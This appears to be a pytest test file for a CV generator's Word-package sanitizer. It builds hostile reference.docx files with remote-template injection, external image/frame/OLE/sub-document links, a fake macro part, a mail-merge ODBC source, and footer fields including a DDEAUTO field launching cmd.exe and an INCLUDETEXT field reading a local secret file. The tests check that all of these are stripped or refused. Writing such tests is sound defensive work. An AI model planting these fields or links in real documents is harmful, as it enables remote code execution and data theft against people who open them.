"""Hardening I, item 4: a theme's reference.docx cannot make Word fetch anything.

The hostile reference carries what Word would fetch or run on every open: a remote
``<w:attachedTemplate>`` (the remote-template injection), an external linked image, an external
frame, an OLE object and a sub-document, plus an internal macro part. The output keeps only
relationships on the allow-list (an external target only for a hyperlink), and LibreOffice still
opens it.
"""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from cvgen.backends.docx_package import keep_allowed_relationships
from cvgen.themes import builtin_dir
from tests.conftest import require_program

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "http://127.0.0.1:9"
DOCUMENT_RELS = {
    "rIdX1": (f"{R}/image", f"{EVIL}/linked.png", True),
    "rIdX2": (f"{R}/frame", f"{EVIL}/frame.html", True),
    "rIdX3": (f"{R}/oleObject", f"{EVIL}/object.bin", True),
    "rIdX4": (f"{R}/subDocument", f"{EVIL}/sub.docx", True),
    "rIdX5": ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False),
}


def _rel(rid: str, kind: str, target: str, external: bool) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'


def hostile_reference(source: Path, target: Path) -> None:
    """``source`` with the remote template, external image/frame/OLE/sub-document and a macro part added."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in src.namelist():
            body = src.read(name).decode("utf-8") if name.endswith((".xml", ".rels")) else src.read(name)
            if name == "word/_rels/document.xml.rels":
                body = body.replace("</Relationships>", "".join(_rel(k, *v) for k, v in DOCUMENT_RELS.items())
                                    + "</Relationships>")
            elif name == "[Content_Types].xml":
                body = body.replace("</Types>", '<Override PartName="/word/vbaProject.bin" '
                                    'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
            elif name == "word/settings.xml":
                body = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdT1"/>', body, count=1)
            dst.writestr(name, body)
        dst.writestr("word/_rels/settings.xml.rels",
                     '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                     f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                     f'{_rel("rIdT1", f"{R}/attachedTemplate", f"{EVIL}/template.dotm", True)}</Relationships>')
        dst.writestr("word/vbaProject.bin", b"not really macros")


def relationships(docx: bytes) -> list[tuple[str, str, str, str]]:
    """(part, type, target, mode) of every relationship in the package."""
    out = []
    with zipfile.ZipFile(io.BytesIO(docx)) as z:
        for name in z.namelist():
            if name.endswith(".rels"):
                for m in re.finditer(r"<Relationship ([^>]*)/?>", z.read(name).decode()):
                    attrs = dict(re.findall(r'(\w+)="([^"]*)"', m.group(1)))
                    out.append((name, attrs["Type"], attrs["Target"], attrs.get("TargetMode", "")))
    return out


@pytest.fixture
def lo_profile(tmp_path: Path) -> Path:
    """A fresh LibreOffice profile (never the user's own)."""
    return tmp_path / "lo-profile"


@pytest.fixture
def hostile_theme(tmp_path: Path) -> Path:
    theme = tmp_path / "theme"
    shutil.copytree(builtin_dir() / "classic", theme)
    (theme / "reference.docx").unlink()
    hostile_reference(builtin_dir() / "classic" / "reference.docx", theme / "reference.docx")
    # Control: the reference really holds what Word would fetch.
    kinds = {t.rsplit("/", 1)[1] for _, t, _, mode in relationships((theme / "reference.docx").read_bytes()) if mode}
    assert {"attachedTemplate", "image", "frame", "oleObject", "subDocument"} <= kinds
    return theme


def test_remote_template_and_external_parts_are_dropped(tmp_path: Path, hostile_theme: Path, example_path: Path) -> None:
    out = tmp_path / "cv.docx"
    proc = subprocess.run([sys.executable, "-m", "cvgen", "render", str(example_path), "-f", "docx",
                           "--theme", str(hostile_theme), "-o", str(out)], capture_output=True, text=True, timeout=180)
    assert proc.returncode == 0, proc.stderr
    data = out.read_bytes()
    rels = relationships(data)
    external = [(t.rsplit("/", 1)[1], target) for _, t, target, mode in rels if mode == "External"]
    assert external and {kind for kind, _ in external} == {"hyperlink"}  # the CV's own links stay
    assert not any(EVIL in target for _, _, target, _ in rels)
    assert not any(t.endswith(("vbaProject", "attachedTemplate")) for _, t, _, _ in rels)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert b"attachedTemplate" not in z.read("word/settings.xml")
        assert "word/vbaProject.bin" not in z.namelist()
        assert b"vbaProject" not in z.read("[Content_Types].xml")


def test_libreoffice_opens_the_cleaned_file(tmp_path: Path, hostile_theme: Path, lo_profile: Path) -> None:
    import cvgen

    soffice = require_program("soffice")
    path = tmp_path / "cv.docx"
    cvgen.render_to_file({"person": {"name": "Ada Lovelace", "links": [{"label": "Site", "url": "https://e.org/"}]}},
                         path, theme=hostile_theme)
    proc = subprocess.run([soffice, f"-env:UserInstallation={lo_profile.as_uri()}", "--headless", "--norestore",
                           "--convert-to", "txt:Text", "--outdir", str(tmp_path), str(path)],
                          capture_output=True, text=True, timeout=180)
    assert proc.returncode == 0, proc.stderr
    assert "Ada Lovelace" in (tmp_path / "cv.txt").read_text(encoding="utf-8-sig")


def test_an_external_image_in_the_body_goes_with_its_drawing() -> None:
    """Markup naming a dropped relationship is removed with it (Word would report a broken file)."""
    doc = ('<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
           f'xmlns:r="{R}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:body><w:p><w:r>'
           '<w:drawing><a:blip r:link="rId9"/></w:drawing><w:t>kept</w:t></w:r></w:p></w:body></w:document>')
    rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'{_rel("rId9", f"{R}/image", f"{EVIL}/x.png", True)}</Relationships>')
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("word/document.xml", doc)
        z.writestr("word/_rels/document.xml.rels", rels)
    with zipfile.ZipFile(io.BytesIO(keep_allowed_relationships(buffer.getvalue()))) as z:
        body = z.read("word/document.xml").decode()
        assert "<w:drawing" not in body and "kept" in body and EVIL not in z.read("word/_rels/document.xml.rels").decode()


def test_built_in_references_pass_unchanged() -> None:
    for theme in ("classic", "modern"):
        data = (builtin_dir() / theme / "reference.docx").read_bytes()
        assert keep_allowed_relationships(data) is data


def _with_footer_field(source: Path, target: Path, instruction: str, settings_extra: str = "") -> None:
    """``source`` with a footer holding a field, and optionally more settings markup."""
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    footer = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:ftr xmlns:w="{w}"><w:p><w:r>'
              '<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
              f'{instruction} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t>'
              '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:ftr>')
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in src.namelist():
            body = src.read(name).decode("utf-8") if name.endswith((".xml", ".rels")) else src.read(name)
            if name == "word/_rels/document.xml.rels":
                body = body.replace("</Relationships>", _rel("rIdF1", f"{R}/footer", "footer9.xml", False) + "</Relationships>")
            elif name == "[Content_Types].xml":
                body = body.replace("</Types>", '<Override PartName="/word/footer9.xml" ContentType="application/'
                                    'vnd.openxmlformats-officedocument.wordprocessingml.footer+xml"/></Types>')
            elif name == "word/settings.xml" and settings_extra:
                body = re.sub(r"(<w:settings[^>]*>)", lambda m: m.group(1) + settings_extra, body, count=1)
            dst.writestr(name, body)
        dst.writestr("word/footer9.xml", footer)


@pytest.mark.parametrize("instruction", ['INCLUDEPICTURE "http://127.0.0.1:9/p.png" \\d',
                                         'INCLUDETEXT "C:\\\\secret.txt"', 'DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc"',
                                         'LINK Excel.Sheet "http://127.0.0.1:9/x.xlsx" ""'])
def test_a_field_that_fetches_or_runs_is_refused(tmp_path: Path, instruction: str) -> None:
    import cvgen
    from cvgen.errors import RenderError

    theme = tmp_path / "theme"
    shutil.copytree(builtin_dir() / "classic", theme)
    (theme / "reference.docx").unlink()
    _with_footer_field(builtin_dir() / "classic" / "reference.docx", theme / "reference.docx", instruction)
    out = tmp_path / "cv.docx"
    with pytest.raises(RenderError, match=f"Word fields.*{instruction.split()[0]}"):
        cvgen.render_to_file({"person": {"name": "Ada"}}, out, theme=theme)
    assert not out.exists()


def test_a_page_number_field_and_a_mail_merge_setting(tmp_path: Path) -> None:
    """Fields that only show the file's own data stay; a mail merge's data source is removed."""
    import cvgen

    theme = tmp_path / "theme"
    shutil.copytree(builtin_dir() / "classic", theme)
    (theme / "reference.docx").unlink()
    merge = ('<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="odbc"/>'
             '<w:connectString w:val="DSN=evil;SERVER=127.0.0.1"/><w:query w:val="SELECT * FROM x"/></w:mailMerge>')
    _with_footer_field(builtin_dir() / "classic" / "reference.docx", theme / "reference.docx", "PAGE", merge)
    data = cvgen.render({"person": {"name": "Ada"}}, "docx", theme=theme)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert b"mailMerge" not in z.read("word/settings.xml")
        assert b"PAGE" in z.read("word/footer9.xml")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_fields_are_found_in_any_encoding_and_parts_without_fields_are_skipped(encoding: str) -> None:
    """The scan skips a part only when its bytes cannot name a field element (an ASCII-based part
    without ``instrText``/``fldSimple``); a UTF-16 part is always parsed."""
    from cvgen.backends.docx_package import refused_fields

    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    field = (f'<?xml version="1.0" encoding="{encoding}"?><w:ftr xmlns:w="{w}"><w:p>'
             '<w:fldSimple w:instr=" INCLUDETEXT &quot;C:\\\\secret.txt&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple>'
             '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
             '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:ftr>')
    plain = f'<?xml version="1.0"?><w:document xmlns:w="{w}"><w:body><w:p/></w:body></w:document>'
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("word/footer1.xml", field.encode(encoding))
        z.writestr("word/document.xml", plain)
    assert refused_fields(buffer.getvalue()) == ["word/footer1.xml: INCLUDETEXT"]
